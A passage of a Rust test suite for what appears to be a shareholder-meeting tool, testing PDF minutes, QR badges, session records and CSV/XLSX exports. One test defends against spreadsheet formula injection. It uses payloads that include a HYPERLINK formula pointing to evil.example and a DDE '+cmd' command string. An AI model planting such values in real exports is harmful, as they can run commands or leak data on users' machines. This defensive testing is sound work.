            let text = String::from_utf8_lossy(&text.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
            let sha = asamblea_wire::Digest::sha256(&std::fs::read(&bundle).unwrap()).to_string();
            for expected in [
                "ACTA DE LA ASAMBLEA GENERAL ORDINARIA DE ACCIONISTAS",
                "Acta n.º 045",
                "30 de marzo de 2027",
                "Presidió la reunión María Fernanda Gómez Rueda",
                "hubo 27 días comunes y 16 días hábiles",
                "Quórum de esta convocatoria",
                "Decisión: APROBADO.",
                "Presidenta de la reunión",
                "Comisión aprobatoria del acta",
                sha.as_str(),
                "Página 1 de",
            ] {
                assert!(text.contains(expected), "the PDF lacks «{expected}»");
            }
        }
    }
    crate::support::remove_meeting(&dir);
    for file in [pdf, a4, bundle] {
        let _ = std::fs::remove_file(file);
    }
}

/// Badges as PDF: each badge on a card-sized page whose QR, rendered by
/// poppler and read by an independent decoder, is the badge's credential;
/// sheets of eight on Carta by default, ten on A4, with the fonts embedded
/// and the names as text.
#[test]
fn badges_print_as_pdf_one_to_a_card_or_in_sheets_and_their_qr_reads_back() {
    let dir = std::env::temp_dir().join(format!("asamblea-exports-badges-{}", std::process::id()));
    crate::support::remove_meeting(&dir);
    ok(&["init", s(&dir)]);
    let people = ["CC-10000000", "CC-10007919", "CC-10015838", "CC-10023757", "CC-10031676", "CC-10055433"];
    for person in people {
        ok(&["checkin", s(&dir), person]);
    }
    ok(&[
        "checkin",
        s(&dir),
        "APODERADO-1",
        "--represents",
        "NIT-800100200",
        "--represents",
        "CC-10253408",
        "--power-document",
        "Poder 17",
    ]);
    for person in ["CC-10063352", "CC-10071271"] {
        ok(&["checkin", s(&dir), person]);
    }
    let out = dir.with_extension("badges");
    let _ = std::fs::remove_dir_all(&out);
    ok(&["badges", s(&dir), "--out", s(&out)]);
    let sheet = out.join("hoja-de-credenciales.pdf");
    assert!(std::fs::read(&sheet).unwrap().starts_with(b"%PDF-"));
    let a4 = dir.with_extension("a4badges");
    let _ = std::fs::remove_dir_all(&a4);
    if !poppler() {
        return crate::webdriver::not_run(
            "exports::badges_print_as_pdf_one_to_a_card_or_in_sheets_and_their_qr_reads_back",
            "no pdftoppm (apt-get install poppler-utils)",
        );
    }
    let info =
        |file: &Path| String::from_utf8(Command::new("pdfinfo").arg(file).output().unwrap().stdout).unwrap();
    // Nine badges: two Carta pages of eight.
    assert!(
        info(&sheet).contains("(letter)") && info(&sheet).contains("Pages:           2"),
        "{}",
        info(&sheet)
    );
    let fonts = String::from_utf8(Command::new("pdffonts").arg(&sheet).output().unwrap().stdout).unwrap();
    assert!(fonts.lines().skip(2).all(|l| l.split_whitespace().rev().nth(4) == Some("yes")), "{fonts}");
    let text = Command::new("pdftotext").arg(&sheet).arg("-").output().unwrap();
    let text = String::from_utf8_lossy(&text.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
    for expected in ["Ana Moreno", "Credencial N.º 9", "Presente este código", "En representación de"] {
        assert!(text.contains(expected), "the sheet lacks «{expected}»: {text}");
    }
    for number in 1..=9 {
        let card = out.join(format!("credencial-{number:04}.pdf"));
        let size = info(&card);
        // 85,6 × 54 mm is 242,6 × 153,1 pt.
        assert!(size.contains("Page size:       242.646 x 153.071 pts"), "{size}");
        let png = dir.with_extension(format!("card{number}"));
        let rendered = Command::new("pdftoppm")
            .args(["-r", "200", "-png", "-singlefile"])
            .arg(&card)
            .arg(&png)
            .status()
            .unwrap();
        assert!(rendered.success());
        let read = crate::consoles::decode_qr(
            &std::fs::read(png.with_extension(format!("card{number}.png"))).unwrap(),
        );
        let printed = std::fs::read_to_string(out.join(format!("credencial-{number:04}.txt"))).unwrap();
        assert_eq!(read, printed.trim(), "badge {number}: the printed QR is its credential");
        // And by a second independent reader, zbar, when it is here.
        match Command::new("zbarimg")
            .args(["-q", "--raw"])
            .arg(png.with_extension(format!("card{number}.png")))
            .output()
        {
            Ok(zbar) if zbar.status.success() => {
                assert_eq!(
                    String::from_utf8_lossy(&zbar.stdout).trim(),
                    printed.trim(),
                    "badge {number} read by zbarimg"
                );
            }
            Ok(zbar) => {
                panic!("zbarimg could not read badge {number}: {}", String::from_utf8_lossy(&zbar.stderr))
            }
            Err(_) if number == 1 => crate::webdriver::not_run(
                "exports::badges_print_as_pdf…: read by zbarimg",
                "no zbarimg (apt-get install zbar-tools)",
            ),
            Err(_) => {}
        }
    }
    // A4: ten to a page, one page.
    crate::support::remove_meeting(&dir);
    ok(&["init", s(&dir)]);
    for person in people {
        ok(&["checkin", s(&dir), person]);
    }
    ok(&["badges", s(&dir), "--out", s(&a4), "--paper", "a4"]);
    let sheet = a4.join("hoja-de-credenciales.pdf");
    assert!(info(&sheet).contains("(A4)") && info(&sheet).contains("Pages:           1"), "{}", info(&sheet));
}

/// The register's first three holders and the first item and list, given
/// what a spreadsheet would run as a formula (issue 22, point 2).
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x\",\"clic\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1 Orden del día",
];

/// The demo meeting with [`FORMULAS`] for names, `-1-1` for a register
/// id, a title and a list name, simulated with everyone present, exported.
fn formulas_meeting(name: &str) -> (PathBuf, PathBuf) {
    let dir = std::env::temp_dir().join(format!("asamblea-exports-{name}-{}", std::process::id()));
    crate::support::remove_meeting(&dir);
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let register = asamblea::commands::DEMO_REGISTER
        .replace(
            "NIT-800100200,\"Fondo de Pensiones Porvenir del Sur S.A.\"",
            &format!("-1-1,{}", quoted(FORMULAS[0])),
        )
        .replace("\"Inversiones Alfa, S.A.S.\"", &quoted(FORMULAS[1]))
        .replace("\"Fiduciaria Andina S.A. – Patrimonio Autónomo\"", &quoted(FORMULAS[2]));
    let meeting = asamblea::commands::DEMO_MEETING
        .replacen("Aprobación del orden del día", FORMULAS[3], 1)
        .replacen("\"Lista 1\"", "\"@Lista 1\"", 1);
    assert!(register.contains("-1-1,") && meeting.contains("@Lista 1"), "the demo files changed");
    let (register_file, meeting_file) = (dir.with_extension("csv"), dir.with_extension("toml"));
    std::fs::write(&register_file, register).unwrap();
    std::fs::write(&meeting_file, meeting).unwrap();
    ok(&["init", s(&dir), "--meeting", s(&meeting_file), "--register", s(&register_file)]);
    ok(&["simulate", s(&dir), "--attendance", "100", "--seed", "5"]);
    let bundle = dir.with_extension("bundle");
    ok(&["export", s(&dir), s(&bundle)]);
    (dir, bundle)
}

/// The fields of a CSV text (RFC 4180: quoted fields, doubled quotes),
/// row by row.
fn csv_fields(text: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let (mut quoted, mut chars) = (false, text.trim_start_matches('\u{feff}').chars().peekable());
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            c if c == separator && !quoted => row.push(String::new()),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                rows.push(vec![String::new()]);
            }
            c => row.last_mut().unwrap().push(c),
        }
    }
    rows.pop_if(|row| row == &[String::new()]);
    rows
}

#[test]
fn no_csv_field_is_a_spreadsheet_formula_and_the_workbook_keeps_the_text_as_it_is() {
    let (dir, bundle) = formulas_meeting("formulas");
    for (flavour, separator) in [(None, ';'), (Some("--csv-plain"), ',')] {
        for table in ["puntos", "accionistas", "asistencia", "retiro"] {
            let mut args = vec!["export-results", s(&bundle), "--format", "csv", "--table", table];
            args.extend(flavour);
            let text = String::from_utf8(ok(&args)).unwrap();
            let rows = csv_fields(&text, separator);
            for field in rows.iter().flatten() {
                assert!(
                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{table} {flavour:?}: «{field}» is a formula\n{text}"
                );
            }
            let all: Vec<&String> = rows.iter().flatten().collect();
            let has = |field: &str| all.iter().any(|f| *f == field);
            match table {
                "accionistas" | "asistencia" => {
                    for name in &FORMULAS[..3] {
                        assert!(has(&format!("'{name}")), "{table} {flavour:?} lacks «'{name}»\n{text}");
                    }
                    // The holder's id is text; its shares stay a number (in
                    // the column after the names: `asistencia` names who
                    // attended first).
                    let row = rows.iter().find(|row| row[0] == "'-1-1").expect("holder -1-1");
                    let shares = if table == "asistencia" { 5 } else { 2 };
                    assert_eq!(row[shares], "18000000", "{row:?}");
                    assert!(text.contains(&format!("\"'-1-1\"{separator}")), "the id is quoted: {text}");
                }
                "puntos" => {
                    assert!(has(&format!("'{}", FORMULAS[3])), "{flavour:?}: the title\n{text}");
                    assert!(
                        all.iter().any(|f| f.starts_with("'@Lista 1 ")),
                        "{flavour:?}: the lists\n{text}"
                    );
                }
                _ => {}
            }
        }
    }
    spreadsheet_runs_no_formula(&dir, &bundle);
    // The workbook's cells are typed: each text is a string, as written.
    let book = dir.with_extension("xlsx");
    ok(&["export-results", s(&bundle), "--format", "xlsx", "-o", s(&book)]);
    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(&book).expect("an Excel workbook");
    let holders = workbook.worksheet_range("accionistas").unwrap();
    let first = holders.rows().nth(1).unwrap();
    assert_eq!(first[0], Data::String("-1-1".into()));
    assert_eq!(first[1], Data::String(FORMULAS[0].into()));
    assert_eq!(first[2], Data::Float(18_000_000.0));
    let names: Vec<String> = holders.rows().skip(1).take(3).map(|row| row[1].to_string()).collect();
    assert_eq!(names, FORMULAS[..3]);
    assert!(workbook.worksheet_formula("accionistas").unwrap().used_cells().next().is_none(), "no formula");
    crate::support::remove_meeting(&dir);
    for file in [bundle, book, dir.with_extension("csv"), dir.with_extension("toml")] {
        let _ = std::fs::remove_file(file);
    }
}

/// A real spreadsheet opens each flavour of the holders' CSV as Excel
/// would (LibreOffice Calc, headless, its CSV import evaluating formulas):
/// no cell is a formula, and each name is the text with one `'` before it.
/// The same import of a raw `=1+1` gives a formula, so the check can fail.
fn spreadsheet_runs_no_formula(dir: &Path, bundle: &Path) {
    let work = dir.with_extension("calc");
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work).unwrap();
    // Each separator as its CSV import option (59 `;`, 44 `,`): UTF-8,
    // quoted fields, and "evaluate formulas" on.
    let import = |csv: &Path, separator: u8| -> Option<calamine::Xlsx<std::io::BufReader<std::fs::File>>> {
        let out = work.join("out");
        let converted = Command::new("soffice")
            .arg("--headless")
            .arg(format!("-env:UserInstallation=file://{}", work.join("profile").display()))
            .arg(format!(
                "--infilter=Text - txt - csv (StarCalc):{separator},34,76,1,,0,false,true,false,false,false,-1,true"
            ))
            .args(["--convert-to", "xlsx", "--outdir"])
            .arg(&out)
            .arg(csv)
            .output()
            .ok()?;
        let book = out.join(csv.with_extension("xlsx").file_name().unwrap());
        (converted.status.success() && book.exists())
            .then(|| calamine::open_workbook(&book).expect("a workbook"))
    };
    let formulas = |book: &mut calamine::Xlsx<_>| {
        let sheet = book.sheet_names()[0].clone();
        book.worksheet_formula(&sheet).unwrap().used_cells().count()
    };
    let control = work.join("control.csv");
    std::fs::write(&control, "a;n\r\n=1+1;7\r\n").unwrap();
    let Some(mut book) = import(&control, b';') else {
        crate::webdriver::not_run(
            "exports::no_csv_field_is_a_spreadsheet_formula…: the CSV opened in LibreOffice Calc",
            "no LibreOffice Calc (apt-get install libreoffice-calc-nogui)",
        );
        return;
    };
    assert_eq!(formulas(&mut book), 1, "Calc's import evaluates a raw formula");
    for (flavour, separator) in [(None, b';'), (Some("--csv-plain"), b',')] {
        let csv = work.join(format!("accionistas-{separator}.csv"));
        let mut args =
            vec!["export-results", s(bundle), "--format", "csv", "--table", "accionistas", "-o", s(&csv)];
        args.extend(flavour);
        ok(&args);
        let mut book = import(&csv, separator).expect("Calc opens the CSV");
        assert_eq!(formulas(&mut book), 0, "{flavour:?}: a cell is a formula");
        let sheet = book.sheet_names()[0].clone();
        let range = book.worksheet_range(&sheet).unwrap();
        let first: Vec<String> = range.rows().skip(1).take(3).map(|row| row[1].to_string()).collect();
        let expected: Vec<String> = FORMULAS[..3].iter().map(|name| format!("'{name}")).collect();
        assert_eq!(first, expected, "{flavour:?}");
        assert_eq!(range.rows().nth(1).unwrap()[0], Data::String("'-1-1".into()), "{flavour:?}");
        assert_eq!(
            range.rows().nth(1).unwrap()[2],
            Data::Float(18_000_000.0),
            "{flavour:?}: shares a number"
        );
    }
    let _ = std::fs::remove_dir_all(&work);
}

/// A meeting with informative items, a board election whose lists name
/// their candidates, and its sessions (installed, suspended, resumed,
/// adjourned): the acta has the whole agenda in its order, who each list
/// carried and who took each seat, and every act of the chair with its
/// hour and quorum; `verify` accepts the bundle.
#[test]
fn the_acta_has_the_whole_agenda_the_persons_elected_and_every_session() {
    use crate::support::{SESSIONS_MEETING as MEETING, SESSIONS_REGISTER as REGISTER};
    use asamblea_rules::{OptionIndex, SessionStep};
    use asamblea_wire::{Choice, HolderVote, Id};
    let dir = std::env::temp_dir().join(format!("asamblea-exports-sessions-{}", std::process::id()));
    crate::support::remove_meeting(&dir);
    let (meeting, register) = (dir.with_extension("toml"), dir.with_extension("csv"));
    std::fs::write(&meeting, MEETING).unwrap();
    std::fs::write(&register, REGISTER).unwrap();
    ok(&["init", s(&dir), "--meeting", s(&meeting), "--register", s(&register)]);
    let mut service = asamblea_venue::service::Service::open(&dir).expect("open");
    for holder in ["A-1", "B-2"] {
        service.check_in(holder).expect("checked in");
    }
    assert!(service.open_item("junta").is_err(), "no poll before the installation");
    service.session_step(SessionStep::Installed, "verificado el quórum").expect("installed");
    service.open_item("junta").expect("opened");
    // A-1 (600) for list A, B-2 (300) for list B: 3 seats on 900 votes,
    // quotient 300: A takes 2, B 1.
    for (holder, list) in [("A-1", 0), ("B-2", 1)] {
        let seed = asamblea_kiosk::BadgeSeed::draw(&service.meeting_id()).expect("a seed");
        let (number, _) = service.issue_badge(holder, seed.public_key()).expect("a badge");
        let vote =
            HolderVote { holder: Id::new(holder).unwrap(), choice: Choice::Whole(OptionIndex::list(list)) };
        service.cast(&seed.numbered(number), "junta", vec![vote]).expect("cast");
    }
    assert!(
        service.session_step(SessionStep::Suspended, "").is_err(),
        "a poll open: it is closed before the meeting is suspended"
    );
    service.close_item("junta").expect("closed");
    service.session_step(SessionStep::Suspended, "se reanuda a las 14:00").expect("suspended");
    service.session_step(SessionStep::Resumed, "").expect("resumed");
    service.session_step(SessionStep::Adjourned, "").expect("adjourned");
    assert!(service.check_in("C-3").is_err(), "nobody arrives once adjourned");
    drop(service.close());
    let out = String::from_utf8(ok(&["verify", s(&dir)])).unwrap();
    assert!(out.contains("VERIFICADO"), "{out}");
    assert!(out.contains("Continuidad del quórum / quorum continuity: se mantuvo"), "{out}");
    assert!(!out.contains("Modalidad"), "a presencial meeting says none: {out}");
    let bundle = dir.with_extension("bundle");
    ok(&["export", s(&dir), s(&bundle)]);
    // The verifier reads the same agenda and sessions from the bundle.
    let verified: serde_json::Value = serde_json::from_slice(&ok(&["verify", s(&bundle), "--json"])).unwrap();
    let steps: Vec<&str> =
        verified["sessions"].as_array().unwrap().iter().map(|s| s["step"].as_str().unwrap()).collect();
    assert_eq!(steps, ["installed", "suspended", "resumed", "adjourned"], "{verified}");
    assert_eq!(verified["sessions"][1]["note"], "se reanuda a las 14:00");
    assert_eq!(verified["sessions"][0]["present"], 900);
    let agenda: Vec<(&str, bool)> = verified["agenda"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["id"].as_str().unwrap(), e["informative"].as_bool().unwrap()))
        .collect();
    assert_eq!(agenda, [("quorum", true), ("junta", false), ("varios", true)]);
    assert_eq!(verified["agenda"][1]["candidates"][0][1]["suplente"], "Paula Ríos");
    // A presencial meeting records no modality; its quorum (900 of 1.000)
    // never dipped while in session.
    assert_eq!(verified["modality"], serde_json::json!({ "modality": "presencial", "recorded": false }));
    let continuity = &verified["continuity"];
    assert_eq!(continuity["held_throughout"], true, "{continuity}");
    assert_eq!(continuity["without_quorum"], serde_json::json!([]), "{continuity}");
    assert_eq!(continuity["polls"][0]["lost"], false, "{continuity}");
    assert_eq!(continuity["polls"][0]["lowest"]["present"], 900, "{continuity}");
    let acta = dir.with_extension("docx");
    ok(&["acta", s(&bundle), "-o", s(&acta)]);
    let text = docx_text(&acta);
    let at = |needle: &str| text.find(needle).unwrap_or_else(|| panic!("the acta lacks «{needle}»: {text}"));
    // The whole agenda in its order, informative items in their place.
    let treated = &text[at("Desarrollo del orden del día")..];
    let place = |needle: &str| treated.find(needle).unwrap_or_else(|| panic!("section 5 lacks «{needle}»"));
    assert!(place("Verificación del quórum") < place("Elección de la Junta Directiva"));
    assert!(place("Elección de la Junta Directiva") < place("Proposiciones y varios"));
    assert_eq!(text.matches("Punto informativo: se trató sin someterse a votación.").count(), 2, "{text}");
    // Who each list carried, and who took each seat.
    for name in ["Ana Pérez", "Luis Gómez", "Jorge Castro", "Paula Ríos", "Carla Ruiz", "Fueron elegidos"]
    {
        at(name);
    }
    assert!(at("Fueron elegidos") < text.rfind("Jorge Castro").unwrap(), "the second of list A is elected");
    // Every act of the chair, with its note.
    for step in
        ["Instalación", "Suspensión", "Reanudación", "Levantamiento de la sesión", "se reanuda a las 14:00"]
    {
        at(step);
    }
    assert!(
        text.contains("Se instaló el") && text.contains("según el acto de instalación del libro electrónico"),
        "{text}"
    );
    assert!(text.contains("las del levantamiento de la sesión en el libro electrónico"), "{text}");
    // The quorum's continuity in the law's words; a presencial meeting
    // says no modality and has no art. 19 deadline.
    assert!(
        text.contains("el quórum se mantuvo para el inicio de la reunión, para su desarrollo y hasta su culminación (Decreto 398 de 2020)"),
        "{text}"
    );
    assert!(!text.contains("Modalidad:") && !text.contains("debe asentarse en el libro de actas"), "{text}");
    let _ = (std::fs::remove_file(meeting), std::fs::remove_file(register));
    crate::support::remove_meeting(&dir);
}

/// The demo meeting under the profile's poll timing (two minutes open, a
/// countdown of 30 s): `simulate` waits for nobody, yet announces every
/// close and moves its records' time forward, so the bundle verifies and
/// `verify --json` shows each poll's opening, announcement and close.
#[test]
fn a_simulated_meeting_under_the_default_timing_announces_and_waits_out_every_close() {
    let dir = std::env::temp_dir().join(format!("asamblea-exports-timed-{}", std::process::id()));
    crate::support::remove_meeting(&dir);
    let meeting = asamblea::commands::DEMO_MEETING
        .replace("poll_minimum_open_seconds = 0\n", "")
        .replace("poll_minimum_countdown_seconds = 0\n", "");
    assert!(!meeting.contains("poll_minimum"), "the demo's timing is the profile's here");
    let register = crate::workspace_root().join("config/demo/register.csv");
    let meeting_file = dir.with_extension("toml");
    std::fs::write(&meeting_file, meeting).unwrap();
    ok(&["init", s(&dir), "--meeting", s(&meeting_file), "--register", s(&register)]);
    ok(&["simulate", s(&dir), "--attendance", "90", "--seed", "3"]);
    let bundle = dir.with_extension("bundle");
    ok(&["export", s(&dir), s(&bundle)]);
    let verified: serde_json::Value = serde_json::from_slice(&ok(&["verify", s(&bundle), "--json"])).unwrap();
    assert_eq!(
        verified["poll_timing"],
        serde_json::json!({"min_open_ms": 120_000, "min_countdown_ms": 30_000})
    );
    let closed: Vec<&serde_json::Value> =
        verified["items"].as_array().unwrap().iter().filter(|item| item["state"] == "closed").collect();
    assert!(closed.len() >= 3, "the demo's polls closed: {verified}");
    for item in closed {
        let time = |key: &str| item[key].as_u64().unwrap_or_else(|| panic!("{}: {key}", item["id"]));
        let announced = &item["close_announced"];
        let (at, countdown) =
            (announced["time_ms"].as_u64().unwrap(), announced["countdown_ms"].as_u64().unwrap());
        assert_eq!(countdown, 30_000, "{}", item["id"]);
        assert!(time("closed_at_ms") >= time("opened_at_ms") + 120_000, "{}", item["id"]);
        assert!(time("closed_at_ms") >= at + countdown, "{}", item["id"]);
        assert!(at >= time("opened_at_ms"), "{}", item["id"]);
    }
    // The acta gives the timing and, for each poll, its opening, its
    // announced close with the countdown, and its close, to the second.
    let acta = dir.with_extension("docx");
    ok(&["acta", s(&bundle), "-o", s(&acta)]);
    let text = docx_text(&acta);
    assert!(
        text.contains("cada votación debía permanecer abierta al menos 2 min y la presidencia debía anunciar su cierre con una cuenta regresiva de al menos 30 s"),
        "{text}"
    );
    let paragraphs = docx_paragraphs(&acta);
    let rows: Vec<Vec<&str>> = paragraphs
        .lines()
        .map(|line| line.trim_end().trim_end_matches('|').trim_end().split(" | ").collect::<Vec<_>>())
        .filter(|cells| cells.len() == 5 && cells[1].matches(':').count() == 2)
        .collect();
    assert!(rows.len() >= 3, "a row for each poll closed: {paragraphs}");
    for cells in rows {
        assert_eq!(cells[3], "30 s", "{cells:?}");
        for time in [cells[1], cells[2], cells[4]] {
            assert!(time.len() == 8 && time.matches(':').count() == 2, "HH:MM:SS: {cells:?}");
        }
    }
    let _ = std::fs::remove_file(acta);
    crate::support::remove_meeting(&dir);
    let _ = std::fs::remove_file(bundle);
    let _ = std::fs::remove_file(meeting_file);
}
